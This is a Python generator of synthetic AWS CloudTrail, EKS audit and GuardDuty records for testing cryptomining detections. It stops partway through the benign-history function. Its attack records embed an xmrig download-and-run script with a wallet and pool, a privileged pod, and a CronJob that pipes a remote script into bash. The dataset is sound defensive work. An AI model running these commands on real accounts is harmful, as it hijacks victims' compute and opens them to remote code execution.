"""Generate the SYNTHETIC second campaign: one stolen key spreads miners across AWS compute services.

samples/synthetic-campaign-services/ holds CloudTrail management events of one account (503819276410) over 17
days: 16 days of its teams' usual work, then a night in which the stolen access key of a legacy deployment
user (amplify-ci-legacy) starts miners on ECS/Fargate, SageMaker, CodeBuild, Lambda, Batch, EKS, Lightsail and
Amplify, the pattern of the public AMBERSQUID and SCARLETEEL write-ups. The benign history is each detection's
twin: a data-science team's notebooks and training jobs on small ml.* types, CI builds on small CodeBuild
compute, ECS services from the account's private ECR, Lambda deploys, an ETL Batch environment on m5/c5, an
EKS node group of m5.large, a marketing site on Amplify and one denied attempt at a Lightsail instance.

No record happened in any AWS account. The envelope of every record copies the real Stratus Red Team records
in samples/stratus-red-team (eventVersion 1.09, tlsDetails, management event, IAM-user and assumed-role
identities); request and response parameters follow each service's API reference and its CloudTrail
documentation (cited per API in samples/synthetic-campaign-services/SOURCE.md). Deterministic: the same bytes
every run.

Usage: python3 tools/synth_services_campaign.py [--out DIR]
"""
from __future__ import annotations

import argparse
import base64
import hashlib
import sys
import uuid
from datetime import datetime, timedelta, timezone
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import samples_io  # noqa: E402

REPO = Path(__file__).resolve().parent.parent
DEFAULT_OUT = REPO / "samples" / "synthetic-campaign-services"
ACCOUNT = "503819276410"
HISTORY_START = datetime(2026, 11, 1, tzinfo=timezone.utc)
HISTORY_DAYS = 16
ATTACK_START = datetime(2026, 11, 17, 2, 0, tzinfo=timezone.utc)
ECR = f"{ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com"
FOREIGN_ECR = "118964503271.dkr.ecr.us-east-1.amazonaws.com"  # an ECR registry of another account
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
POOL = "stratum+tcp://pool.supportxmr.com:3333"
MINER_ARGS = ["-o", POOL, "-u", WALLET, "-k", "--donate-level", "1", "--cpu-max-threads-hint", "100"]
MINER_SCRIPT = ("#!/bin/bash\ncurl -sL https://github.com/xmrig/xmrig/releases/download/v6.21.0/"
                "xmrig-6.21.0-linux-static-x64.tar.gz | tar xz -C /tmp\n/tmp/xmrig-6.21.0/xmrig "
                + " ".join(MINER_ARGS) + " --background\n")
MINER_BUILDSPEC = ("version: 0.2\nphases:\n  build:\n    commands:\n      - curl -sL https://github.com/xmrig/xmrig/"
                   "releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz | tar xz\n      - "
                   "./xmrig-6.21.0/xmrig " + " ".join(MINER_ARGS) + "\n")
BENIGN_BUILDSPEC = ("version: 0.2\nphases:\n  install:\n    commands:\n      - npm ci\n  build:\n    commands:\n"
                    "      - npm run build\n      - npm test\nartifacts:\n  files:\n    - '**/*'\n  base-directory: dist\n")
TLS = {"cipherSuite": "TLS_AES_128_GCM_SHA256", "tlsVersion": "TLSv1.3"}


def _user(name, user_id, key):
    return {"type": "IAMUser", "principalId": user_id, "arn": f"arn:aws:iam::{ACCOUNT}:user/{name}",
            "accountId": ACCOUNT, "accessKeyId": key, "userName": name}


def _role(role, session, role_id, key):
    return {"type": "AssumedRole", "principalId": f"{role_id}:{session}",
            "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{session}", "accountId": ACCOUNT,
            "accessKeyId": key,
            "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": role_id,
                                                 "arn": f"arn:aws:iam::{ACCOUNT}:role/{role}", "accountId": ACCOUNT,
                                                 "userName": role},
                               "webIdFederationData": {},
                               "attributes": {"creationDate": "2026-11-01T07:58:02Z", "mfaAuthenticated": "false"}}}


BOTO = "Boto3/1.35.36 md/Botocore#1.35.36 ua/2.0 os/linux#6.1.109 md/arch#x86_64 lang/python#3.11.10 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.35.36"
CLI = "aws-cli/2.18.4 md/awscrt#0.22.0 ua/2.0 os/linux#6.8.0-45-generic md/arch#x86_64 lang/python#3.12.6 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/distrib#ubuntu.24 md/prompt#off md/command#{cmd}"
TF = ("APN/1.0 HashiCorp/1.0 Terraform/1.9.5 (+https://www.terraform.io) terraform-provider-aws/5.67.0 "
      "(+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.30.5 os/linux lang/go#1.22.6 "
      "md/GOOS#linux md/GOARCH#amd64 api/{api}")
OFFICE = "216.160.83.60"  # the company's egress (US, AS209)
ACTORS = {
    "attacker": {"ip": "67.43.156.10", "agent": CLI,  # Bhutan, AS35908 in MaxMind's test databases
                 "identity": _user("amplify-ci-legacy", "AIDAXK4Q7N2RWB5M3C8DF", "AKIAXK4Q7N2RSWLDT6HZ")},
    "datascience": {"ip": OFFICE, "agent": BOTO,
                    "identity": _role("datascience-sagemaker", "mlee", "AROAXK4Q7N2RQ3ZV8J1KP", "ASIAXK4Q7N2RN5D2B7QW")},
    "ci": {"ip": "3.91.44.207", "agent": BOTO,
           "identity": _role("github-actions-deploy", "gha-run-8123", "AROAXK4Q7N2RHT6W2E4LM", "ASIAXK4Q7N2RJ8C1V3TY")},
    "terraform": {"ip": OFFICE, "agent": TF,
                  "identity": _role("terraform-apply", "terraform-a81c09", "AROAXK4Q7N2RZP7M4N6QX", "ASIAXK4Q7N2RK2F9H5US")},
    "etl": {"ip": "10.20.3.14", "agent": BOTO,
            "identity": _role("etl-scheduler", "airflow", "AROAXK4Q7N2RB6L1S9DCV", "ASIAXK4Q7N2RW4P7G2MN")},
    "marketing": {"ip": OFFICE, "agent": "AWS Internal",
                  "identity": _user("web-marketing", "AIDAXK4Q7N2RU8T3F6GHA", "AKIAXK4Q7N2RM9E4Y1QC")},
}


class Trail:
    """Collects records; every id is derived from the record's position, so output is byte-stable."""

    def __init__(self):
        self.records = []

    def call(self, when, actor, service, name, params, response=None, *, region="us-east-1", error=None,
             message=None, read_only=False):
        seed = hashlib.sha256(f"{when.isoformat()}/{service}/{name}/{len(self.records)}".encode()).digest()
        request_id = str(uuid.UUID(bytes=seed[:16]))
        who = ACTORS[actor]
        agent = who["agent"].format(cmd=f"{service}.{_kebab(name)}", api=f"{service}#1.0")
        record = {
            "awsRegion": region, "eventCategory": "Management", "eventID": str(uuid.UUID(bytes=seed[16:])),
            "eventName": name, "eventSource": f"{service}.amazonaws.com",
            "eventTime": when.strftime("%Y-%m-%dT%H:%M:%SZ"), "eventType": "AwsApiCall", "eventVersion": "1.09",
            "managementEvent": True, "readOnly": read_only, "recipientAccountId": ACCOUNT, "requestID": request_id,
            "requestParameters": params, "responseElements": None if error else response,
            "sourceIPAddress": who["ip"],
            "tlsDetails": dict(TLS, clientProvidedHostHeader=f"{_host(service)}.{region}.amazonaws.com"),
            "userAgent": agent, "userIdentity": who["identity"]}
        if error:
            record["errorCode"], record["errorMessage"] = error, message
        self.records.append(record)
        return record


def _kebab(name):
    return "".join("-" + c.lower() if c.isupper() else c for c in name.rstrip("0123456789v")).lstrip("-")


def _host(service):
    return {"sagemaker": "api.sagemaker", "eks": "eks"}.get(service, service)


def _arn(service, region, resource):
    return f"arn:aws:{service}:{region}:{ACCOUNT}:{resource}"


# ---- ECS (RegisterTaskDefinition, RunTask, CreateService, UpdateService) -------------------------------------
def ecs_register(trail, when, actor, family, image, cpu, memory, command=None, revision=1, gpu=None):
    container = {"name": family, "image": image, "essential": True}
    if command:
        container["command"] = command
    if gpu:
        container["resourceRequirements"] = [{"type": "GPU", "value": str(gpu)}]
    params = {"family": family, "containerDefinitions": [container], "requiresCompatibilities": ["FARGATE"],
              "networkMode": "awsvpc", "cpu": str(cpu), "memory": str(memory),
              "executionRoleArn": f"arn:aws:iam::{ACCOUNT}:role/ecsTaskExecutionRole"}
    arn = _arn("ecs", "us-east-1", f"task-definition/{family}:{revision}")
    response = {"taskDefinition": dict(params, taskDefinitionArn=arn, revision=revision, status="ACTIVE",
                                       compatibilities=["EC2", "FARGATE"], registeredAt=when.strftime("%b %d, %Y, %I:%M:%S %p"),
                                       registeredBy=ACTORS[actor]["identity"]["arn"])}
    return trail.call(when, actor, "ecs", "RegisterTaskDefinition", params, response)


def ecs_run(trail, when, actor, cluster, task_definition, count, overrides=None):
    params = {"cluster": cluster, "taskDefinition": task_definition, "count": count, "launchType": "FARGATE",
              "networkConfiguration": {"awsvpcConfiguration": {"subnets": ["subnet-0a3c71e5d29b84f16"],
                                                               "assignPublicIp": "ENABLED"}}}
    if overrides:
        params["overrides"] = {"containerOverrides": [overrides]}
    tasks = [{"taskArn": _arn("ecs", "us-east-1", f"task/{cluster}/{hashlib.md5(f'{when}{i}'.encode()).hexdigest()}"),
              "lastStatus": "PROVISIONING", "launchType": "FARGATE",
              "taskDefinitionArn": _arn("ecs", "us-east-1", f"task-definition/{task_definition}")} for i in range(count)]
    return trail.call(when, actor, "ecs", "RunTask", params, {"tasks": tasks, "failures": []})


def ecs_service(trail, when, actor, name, cluster, task_definition, desired, create=True):
    call = "CreateService" if create else "UpdateService"
    params = {"cluster": cluster, "taskDefinition": task_definition, "desiredCount": desired}
    params.update({"serviceName": name, "launchType": "FARGATE"} if create else {"service": name})
    response = {"service": {"serviceName": name, "serviceArn": _arn("ecs", "us-east-1", f"service/{cluster}/{name}"),
                            "desiredCount": desired, "status": "ACTIVE",
                            "taskDefinition": _arn("ecs", "us-east-1", f"task-definition/{task_definition}")}}
    return trail.call(when, actor, "ecs", call, params, response)


# ---- SageMaker ---------------------------------------------------------------------------------------------------
def sm(trail, when, actor, call, params, arn_key, resource, **kw):
    return trail.call(when, actor, "sagemaker", call, params, {arn_key: _arn("sagemaker", "us-east-1", resource)}, **kw)


def sm_notebook(trail, when, actor, name, itype, lifecycle=None, **kw):
    params = {"notebookInstanceName": name, "instanceType": itype, "volumeSizeInGB": 50,
              "roleArn": f"arn:aws:iam::{ACCOUNT}:role/service-role/AmazonSageMaker-ExecutionRole"}
    if lifecycle:
        params["lifecycleConfigName"] = lifecycle
    return sm(trail, when, actor, "CreateNotebookInstance", params, "notebookInstanceArn",
              f"notebook-instance/{name}", **kw)


def sm_lifecycle(trail, when, actor, name, script):
    params = {"notebookInstanceLifecycleConfigName": name,
              "onStart": [{"content": base64.b64encode(script.encode()).decode()}]}
    return sm(trail, when, actor, "CreateNotebookInstanceLifecycleConfig", params,
              "notebookInstanceLifecycleConfigArn", f"notebook-instance-lifecycle-config/{name}")


def sm_training(trail, when, actor, name, itype, count, image, **kw):
    params = {"trainingJobName": name, "algorithmSpecification": {"trainingImage": image, "trainingInputMode": "File"},
              "roleArn": f"arn:aws:iam::{ACCOUNT}:role/service-role/AmazonSageMaker-ExecutionRole",
              "resourceConfig": {"instanceType": itype, "instanceCount": count, "volumeSizeInGB": 100},
              "stoppingCondition": {"maxRuntimeInSeconds": 432000},
              "outputDataConfig": {"s3OutputPath": "s3://datascience-503819276410/models/"}}
    return sm(trail, when, actor, "CreateTrainingJob", params, "trainingJobArn", f"training-job/{name}", **kw)


def sm_processing(trail, when, actor, name, itype, count, image, arguments=None):
    app = {"imageUri": image}
    if arguments:
        app["containerArguments"] = arguments
    params = {"processingJobName": name, "appSpecification": app,
              "processingResources": {"clusterConfig": {"instanceCount": count, "instanceType": itype,
                                                        "volumeSizeInGB": 30}},
              "roleArn": f"arn:aws:iam::{ACCOUNT}:role/service-role/AmazonSageMaker-ExecutionRole"}
    return sm(trail, when, actor, "CreateProcessingJob", params, "processingJobArn", f"processing-job/{name}")


# ---- CodeBuild ---------------------------------------------------------------------------------------------------
def cb_project(trail, when, actor, name, compute, env_type, privileged, buildspec, update=False):
    environment = {"type": env_type, "image": "aws/codebuild/standard:7.0", "computeType": compute,
                   "privilegedMode": privileged, "imagePullCredentialsType": "CODEBUILD"}
    params = {"name": name, "source": {"type": "NO_SOURCE", "buildspec": buildspec},
              "artifacts": {"type": "NO_ARTIFACTS"}, "environment": environment,
              "serviceRole": f"arn:aws:iam::{ACCOUNT}:role/service-role/codebuild-{name}-service-role"}
    project = dict(params, arn=_arn("codebuild", "us-east-1", f"project/{name}"), timeoutInMinutes=60,
                   queuedTimeoutInMinutes=480, badge={"badgeEnabled": False})
    return trail.call(when, actor, "codebuild", "UpdateProject" if update else "CreateProject", params,
                      {"project": project})


def cb_start(trail, when, actor, project, n):
    build_id = f"{project}:{uuid.UUID(bytes=hashlib.sha256(f'{project}{when}{n}'.encode()).digest()[:16])}"
    return trail.call(when, actor, "codebuild", "StartBuild", {"projectName": project},
                      {"build": {"id": build_id, "arn": _arn("codebuild", "us-east-1", f"build/{build_id}"),
                                 "buildStatus": "IN_PROGRESS", "currentPhase": "QUEUED", "projectName": project}})


# ---- Lambda ------------------------------------------------------------------------------------------------------
def lambda_config(function, memory, timeout, package="Zip"):
    config = {"functionName": function, "functionArn": _arn("lambda", "us-east-1", f"function:{function}"),
              "memorySize": memory, "timeout": timeout, "packageType": package, "architectures": ["x86_64"],
              "ephemeralStorage": {"size": 512}, "state": "Pending", "version": "$LATEST",
              "role": f"arn:aws:iam::{ACCOUNT}:role/lambda-{function}"}
    if package == "Zip":
        config.update(runtime="python3.12", handler="app.handler")
    return config


def lambda_create(trail, when, actor, function, memory, timeout, image=None):
    params = {"functionName": function, "role": f"arn:aws:iam::{ACCOUNT}:role/lambda-{function}",
              "memorySize": memory, "timeout": timeout, "publish": False}
    if image:
        params.update(packageType="Image", code={"imageUri": image})
    else:
        params.update(runtime="python3.12", handler="app.handler", code={})
    return trail.call(when, actor, "lambda", "CreateFunction20150331", params,
                      lambda_config(function, memory, timeout, "Image" if image else "Zip"))


def lambda_update_config(trail, when, actor, function, memory, timeout):
    return trail.call(when, actor, "lambda", "UpdateFunctionConfiguration20150331v2",
                      {"functionName": function, "memorySize": memory, "timeout": timeout},
                      lambda_config(function, memory, timeout))


def lambda_update_code(trail, when, actor, function, memory, timeout):
    return trail.call(when, actor, "lambda", "UpdateFunctionCode20150331v2",
                      {"functionName": function, "publish": True, "dryRun": False},
                      lambda_config(function, memory, timeout))


# ---- Batch -------------------------------------------------------------------------------------------------------
def batch_ce(trail, when, actor, name, types, max_vcpus, kind="EC2", update=False):
    resources = {"type": kind, "minvCpus": 0, "maxvCpus": max_vcpus, "instanceTypes": types,
                 "subnets": ["subnet-0a3c71e5d29b84f16"], "securityGroupIds": ["sg-07b2e4c91d3a5f680"],
                 "instanceRole": f"arn:aws:iam::{ACCOUNT}:instance-profile/ecsInstanceRole"}
    if update:
        params = {"computeEnvironment": name, "computeResources": {"maxvCpus": max_vcpus, "instanceTypes": types}}
    else:
        params = {"computeEnvironmentName": name, "type": "MANAGED", "state": "ENABLED",
                  "computeResources": resources, "serviceRole": f"arn:aws:iam::{ACCOUNT}:role/AWSBatchServiceRole"}
    response = {"computeEnvironmentName": name,
                "computeEnvironmentArn": _arn("batch", "us-east-1", f"compute-environment/{name}")}
    return trail.call(when, actor, "batch", "UpdateComputeEnvironment" if update else "CreateComputeEnvironment",
                      params, response)


def batch_submit(trail, when, actor, job, queue, definition, overrides=None, array=None):
    params = {"jobName": job, "jobQueue": queue, "jobDefinition": definition}
    if overrides:
        params["containerOverrides"] = overrides
    if array:
        params["arrayProperties"] = {"size": array}
    job_id = str(uuid.UUID(bytes=hashlib.sha256(f"{job}{when}".encode()).digest()[:16]))
    return trail.call(when, actor, "batch", "SubmitJob", params,
                      {"jobArn": _arn("batch", "us-east-1", f"job/{job_id}"), "jobName": job, "jobId": job_id})


# ---- EKS, Lightsail, Amplify ---------------------------------------------------------------------------------------
def eks_nodegroup(trail, when, actor, cluster, name, types, minimum, maximum, desired, update=False, ami="AL2_x86_64"):
    scaling = {"minSize": minimum, "maxSize": maximum, "desiredSize": desired}
    if update:
        params = {"name": cluster, "nodegroupName": name, "scalingConfig": scaling,
                  "clientRequestToken": str(uuid.UUID(bytes=hashlib.sha256(f"{name}{when}".encode()).digest()[:16]))}
        response = {"update": {"id": params["clientRequestToken"], "status": "InProgress", "type": "ConfigUpdate",
                               "params": [{"type": "DesiredSize", "value": str(desired)},
                                          {"type": "MaxSize", "value": str(maximum)}]}}
        return trail.call(when, actor, "eks", "UpdateNodegroupConfig", params, response)
    params = {"name": cluster, "nodegroupName": name, "scalingConfig": scaling, "instanceTypes": types,
              "amiType": ami, "capacityType": "ON_DEMAND", "subnets": ["subnet-0a3c71e5d29b84f16"],
              "nodeRole": f"arn:aws:iam::{ACCOUNT}:role/eks-node-role"}
    response = {"nodegroup": dict(params, clusterName=cluster, status="CREATING",
                                  nodegroupArn=_arn("eks", "us-east-1", f"nodegroup/{cluster}/{name}/4ec9f0a2"))}
    return trail.call(when, actor, "eks", "CreateNodegroup", params, response)


def lightsail_create(trail, when, actor, names, zone, bundle, user_data=None, **kw):
    params = {"instanceNames": names, "availabilityZone": zone, "blueprintId": "ubuntu_22_04", "bundleId": bundle}
    if user_data:
        params["userData"] = user_data
    operations = [{"id": str(uuid.UUID(bytes=hashlib.sha256(f"{n}{when}".encode()).digest()[:16])), "resourceName": n,
                   "resourceType": "Instance", "operationType": "CreateInstance", "status": "Started",
                   "location": {"availabilityZone": zone, "regionName": zone[:-1]}} for n in names]
    return trail.call(when, actor, "lightsail", "CreateInstances", params, {"operations": operations},
                      region=zone[:-1], **kw)


def amplify_app(trail, when, actor, name, app_id, buildspec):
    params = {"name": name, "platform": "WEB", "buildSpec": buildspec,
              "repository": f"https://github.com/example-org/{name}", "accessToken": "HIDDEN_DUE_TO_SECURITY_REASONS"}
    app = {"appId": app_id, "appArn": _arn("amplify", "us-east-1", f"apps/{app_id}"), "name": name,
           "platform": "WEB", "defaultDomain": f"{app_id}.amplifyapp.com", "buildSpec": buildspec}
    return trail.call(when, actor, "amplify", "CreateApp", params, {"app": app})


def amplify_branch(trail, when, actor, app_id, branch):
    return trail.call(when, actor, "amplify", "CreateBranch", {"appId": app_id, "branchName": branch},
                      {"branch": {"branchName": branch, "stage": "PRODUCTION",
                                  "branchArn": _arn("amplify", "us-east-1", f"apps/{app_id}/branches/{branch}")}})


def amplify_job(trail, when, actor, app_id, branch, job_id):
    return trail.call(when, actor, "amplify", "StartJob",
                      {"appId": app_id, "branchName": branch, "jobType": "RELEASE"},
                      {"jobSummary": {"jobId": str(job_id), "status": "PENDING", "jobType": "RELEASE",
                                      "jobArn": _arn("amplify", "us-east-1", f"apps/{app_id}/branches/{branch}/jobs/{job_id:010d}")}})


# ---- EKS control-plane audit log (Kubernetes audit.k8s.io/v1 Events, through CloudWatch Logs) -------------------
KUBECTL = "kubectl/v1.30.2 (linux/amd64) kubernetes/39683505b630ff2121012f3c5b16215a1449d5ed"
RESOURCES = {"deployments": ("apps", "Deployment"), "daemonsets": ("apps", "DaemonSet"), "pods": ("", "Pod"),
             "cronjobs": ("batch", "CronJob")}


def _pod_spec(image, args=None, privileged=False):
    container = {"name": image.rsplit("/", 1)[-1].split(":")[0], "image": image, "resources": {}}
    if args:
        container["args"] = args
    if privileged:
        container["securityContext"] = {"privileged": True}
    return {"containers": [container], "restartPolicy": "Always"}


def k8s_create(when, actor, resource, namespace, name, image, args=None, privileged=False):
    """One ResponseComplete audit Event of a create, at the RequestResponse level EKS logs writes with."""
    group, kind = RESOURCES[resource]
    spec = _pod_spec(image, args, privileged)
    if resource != "pods":
        spec = {"selector": {"matchLabels": {"app": name}},
                "template": {"metadata": {"labels": {"app": name}}, "spec": spec}}
    body = {"kind": kind, "apiVersion": f"{group}/v1" if group else "v1",
            "metadata": {"name": name, "namespace": namespace}, "spec": spec}
    identity = ACTORS[actor]["identity"]
    arn = identity["arn"] if identity["type"] == "IAMUser" else identity["sessionContext"]["sessionIssuer"]["arn"]
    seed = hashlib.sha256(f"{when.isoformat()}/{name}".encode()).digest()
    prefix = f"/apis/{group}/v1" if group else "/api/v1"
    stamp = when.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    return {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse",
            "auditID": str(uuid.UUID(bytes=seed[:16])), "stage": "ResponseComplete",
            "requestURI": f"{prefix}/namespaces/{namespace}/{resource}?fieldManager=kubectl-client-side-apply",
            "verb": "create",
            "user": {"username": "kubernetes-admin" if actor == "attacker" else f"{actor}-deployer",
                     "uid": f"aws-iam-authenticator:{ACCOUNT}:{identity['principalId'].split(':')[0]}",
                     "groups": ["system:masters", "system:authenticated"],
                     "extra": {"accessKeyId": [identity["accessKeyId"]], "arn": [identity["arn"]],
                               "canonicalArn": [arn], "principalId": [identity["principalId"].split(":")[0]],
                               "sessionName": [identity["arn"].rsplit("/", 1)[-1] if actor != "attacker" else ""]}},
            "sourceIPs": [ACTORS[actor]["ip"]], "userAgent": KUBECTL,
            "objectRef": {"resource": resource, "namespace": namespace, "name": name, "apiGroup": group,
                          "apiVersion": "v1"},
            "responseStatus": {"metadata": {}, "code": 201},
            "requestObject": body,
            "requestReceivedTimestamp": stamp, "stageTimestamp": stamp,
            "annotations": {"authorization.k8s.io/decision": "allow",
                            "authorization.k8s.io/reason": "EKS Access Policy: allowed by ClusterRoleBinding"}}


def eks_audit():
    events = []
    for day in range(HISTORY_DAYS):  # CI rolls out the web API with the account's private image
        when = HISTORY_START + timedelta(days=day, hours=10, minutes=20)
        events.append(k8s_create(when, "ci", "deployments", "web", f"web-api-{day:02d}", f"{ECR}/web-api:1.{42 + day}.1"))
    # the platform team's CNI daemon set runs privileged from AWS's own ECR: no alert
    events.append(k8s_create(HISTORY_START + timedelta(hours=9, minutes=15), "terraform", "daemonsets", "kube-system",
                             "aws-node", "602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.18.3",
                             privileged=True))
    t = ATTACK_START + timedelta(minutes=42)
    events.append(k8s_create(t, "attacker", "daemonsets", "kube-system", "kube-metrics", "docker.io/xmrig/xmrig:6.21.0",
                             args=MINER_ARGS))
    events.append(k8s_create(t + timedelta(minutes=1), "attacker", "pods", "default", "debug-shell", "alpine:3.20",
                             args=["sh", "-c", "sleep infinity"], privileged=True))
    events.append(k8s_create(t + timedelta(minutes=2), "attacker", "cronjobs", "default", "log-rotate",
                             "ubuntu:24.04", args=["bash", "-c", "curl -s http://198.51.100.7/x.sh | bash"]))
    return sorted(events, key=lambda e: e["requestReceivedTimestamp"])


# ---- GuardDuty findings (Runtime Monitoring on ECS/EKS, Lambda Protection, attack sequence) ------------------
DETECTOR = "5ac8e1f2d94b07a36c21e8f4b9d03a67"


def _finding(n, ftype, when, severity, resource, service_extra, title):
    fid = hashlib.sha256(f"finding/{n}".encode()).hexdigest()[:32]
    stamp = when.strftime("%Y-%m-%dT%H:%M:%S.000Z")
    service = {"serviceName": "guardduty", "detectorId": DETECTOR, "resourceRole": "TARGET", "archived": False,
               "count": 1, "eventFirstSeen": stamp, "eventLastSeen": stamp,
               "additionalInfo": {"value": "{}", "type": "default"}}
    service.update(service_extra)
    return {"schemaVersion": "2.0", "accountId": ACCOUNT, "region": "us-east-1", "partition": "aws", "id": fid,
            "arn": f"arn:aws:guardduty:us-east-1:{ACCOUNT}:detector/{DETECTOR}/finding/{fid}", "type": ftype,
            "resource": resource, "service": service, "severity": severity, "createdAt": stamp, "updatedAt": stamp,
            "title": title, "description": title}


def _ecs_resource():
    task = hashlib.md5(b"system-update-task-0").hexdigest()
    return {"resourceType": "ECSCluster", "ecsClusterDetails": {
        "name": "prod", "arn": _arn("ecs", "us-east-1", "cluster/prod"), "status": "ACTIVE",
        "taskDetails": {"arn": _arn("ecs", "us-east-1", f"task/prod/{task}"),
                        "definitionArn": _arn("ecs", "us-east-1", "task-definition/system-update:1"), "version": "1",
                        "containers": [{"containerRuntime": "containerd", "id": task[:12], "name": "system-update",
                                        "image": "docker.io/metal3d/xmrig:latest"}]}}}


def _runtime(process):
    return {"runtimeDetails": {"process": {"name": process, "executablePath": f"/usr/local/bin/{process}",
                                           "pid": 7, "namespacePid": 7, "user": "root", "userId": 0}}}


def guardduty_findings():
    t = ATTACK_START + timedelta(minutes=20)
    network = {"action": {"actionType": "NETWORK_CONNECTION", "networkConnectionAction": {
        "connectionDirection": "OUTBOUND", "protocol": "TCP", "blocked": False,
        "remoteIpDetails": {"ipAddressV4": "37.59.43.136"}, "remotePortDetails": {"port": 3333}}}}
    return [
        _finding(1, "CryptoCurrency:Runtime/BitcoinTool.B", t, 8, _ecs_resource(), dict(network, **_runtime("xmrig")),
                 "Fargate task in ECS cluster prod is communicating with a cryptocurrency mining pool."),
        _finding(2, "CryptoCurrency:Lambda/BitcoinTool.B", t + timedelta(minutes=15), 8,
                 {"resourceType": "Lambda", "lambdaDetails": {
                     "functionName": "image-resize-worker",
                     "functionArn": _arn("lambda", "us-east-1", "function:image-resize-worker"),
                     "functionVersion": "$LATEST", "role": f"arn:aws:iam::{ACCOUNT}:role/lambda-image-resize-worker"}},
                 network, "Lambda function image-resize-worker is querying a cryptocurrency-related IP address."),
        _finding(3, "Execution:Runtime/MaliciousFileExecuted", t + timedelta(minutes=25), 8,
                 {"resourceType": "EKSCluster",
                  "eksClusterDetails": {"name": "prod-eks", "arn": _arn("eks", "us-east-1", "cluster/prod-eks"),
                                        "status": "ACTIVE"},
                  "kubernetesDetails": {"kubernetesWorkloadDetails": {"name": "kube-metrics", "type": "daemonsets",
                                                                      "namespace": "kube-system"}},
                  "containerDetails": {"containerRuntime": "containerd", "name": "xmrig",
                                       "image": "docker.io/xmrig/xmrig:6.21.0"}},
                 dict(_runtime("xmrig"), malwareScanDetails={"threats": [
                     {"name": "Linux.Trojan.CoinMiner", "source": "Bitdefender", "itemPaths": [
                         {"nestedItemPath": "/usr/local/bin/xmrig", "hash": "5d41402abc4b2a76b9719d911017c592"}]}]}),
                 "A known malicious file was executed in a container of EKS cluster prod-eks."),
        _finding(6, "Impact:Runtime/BitcoinDomainRequest.Reputation", t + timedelta(minutes=30), 8,
                 {"resourceType": "EKSCluster",
                  "eksClusterDetails": {"name": "prod-eks", "arn": _arn("eks", "us-east-1", "cluster/prod-eks"),
                                        "status": "ACTIVE"},
                  "kubernetesDetails": {"kubernetesWorkloadDetails": {"name": "kube-metrics", "type": "daemonsets",
                                                                      "namespace": "kube-system"}}},
                 dict(_runtime("xmrig"), action={"actionType": "DNS_REQUEST", "dnsRequestAction": {
                     "domain": "pool.supportxmr.com", "protocol": "UDP", "blocked": False}}),
                 "A container in EKS cluster prod-eks queried a domain associated with cryptocurrency mining."),
        _finding(4, "AttackSequence:ECS/CompromisedCluster", t + timedelta(minutes=40), 9, _ecs_resource(),
                 {"detection": {"sequence": {
                     "uid": "seq-0b7d1e52", "description": "Potential compromise of ECS cluster prod.",
                     "signals": [{"uid": "sig-1", "type": "FINDING", "name": "CryptoCurrency:Runtime/BitcoinTool.B",
                                  "severity": 8, "count": 1},
                                 {"uid": "sig-2", "type": "CLOUD_TRAIL", "name": "RegisterTaskDefinition",
                                  "severity": 3, "count": 1}]}}},
                 "Potential compromise of ECS cluster prod indicated by a sequence of actions."),
        # the platform team's test of Malware Protection: the EICAR test file, not a miner (no alert)
        _finding(5, "Execution:Runtime/MaliciousFileExecuted", HISTORY_START + timedelta(days=5, hours=14), 5,
                 {"resourceType": "EKSCluster",
                  "eksClusterDetails": {"name": "prod-eks", "arn": _arn("eks", "us-east-1", "cluster/prod-eks"),
                                        "status": "ACTIVE"},
                  "kubernetesDetails": {"kubernetesWorkloadDetails": {"name": "av-check", "type": "pods",
                                                                      "namespace": "security"}}},
                 dict(_runtime("sh"), malwareScanDetails={"threats": [
                     {"name": "EICAR-Test-File (not a virus)", "source": "Bitdefender", "itemPaths": [
                         {"nestedItemPath": "/tmp/eicar.com", "hash": "44d88612fea8a8f36de82e1278abb02f"}]}]}),
                 "A known malicious file was executed in a container of EKS cluster prod-eks."),
    ]


# ---- the story ---------------------------------------------------------------------------------------------------
def benign_history(trail):
    day0 = HISTORY_START + timedelta(hours=9)
    tf = "terraform"
    ecs_register(trail, day0, tf, "web-api", f"{ECR}/web-api:1.42.0", 512, 1024)
    ecs_service(trail, day0 + timedelta(minutes=2), tf, "web-api", "prod", "web-api:1", 3)
    cb_project(trail, day0 + timedelta(minutes=4), tf, "web-app-ci", "BUILD_GENERAL1_SMALL", "LINUX_CONTAINER",
               False, BENIGN_BUILDSPEC)
    lambda_create(trail, day0 + timedelta(minutes=6), tf, "orders-handler", 512, 30)
    batch_ce(trail, day0 + timedelta(minutes=8), tf, "etl-ce", ["m5.large", "c5.xlarge"], 64)
    eks_nodegroup(trail, day0 + timedelta(minutes=10), tf, "prod-eks", "general", ["m5.large"], 2, 6, 3)
    amplify_app(trail, day0 + timedelta(minutes=12), tf, "marketing-site", "d2k4v7x9q1w3e5", BENIGN_BUILDSPEC)
    amplify_branch(trail, day0 + timedelta(minutes=13), tf, "d2k4v7x9q1w3e5", "main")
    sm_lifecycle(trail, day0 + timedelta(minutes=19), "datascience", "install-libs",
                 "#!/bin/bash\nsudo -u ec2-user -i <<'EOF'\nsource activate python3\npip install --quiet xgboost==2.1.1 "
                 "shap==0.46.0\nsource deactivate\nEOF\n")
    sm_notebook(trail, day0 + timedelta(minutes=20), "datascience", "churn-exploration", "ml.t3.medium",
                lifecycle="install-libs")
    # marketing's one attempt at a Lightsail blog is denied: the account never ran Lightsail before the attack
    lightsail_create(trail, day0 + timedelta(days=2, hours=5), "marketing", ["wordpress-blog"], "us-east-1a",
                     "small_3_0", error="AccessDeniedException",
                     message="User: arn:aws:iam::503819276410:user/web-marketing is not authorized to perform: "
                             "lightsail:CreateInstances")
    job = 1
    for day in range(HISTORY_DAYS):
        morning = HISTORY_START + timedelta(days=day, hours=10)
        revision = day + 2
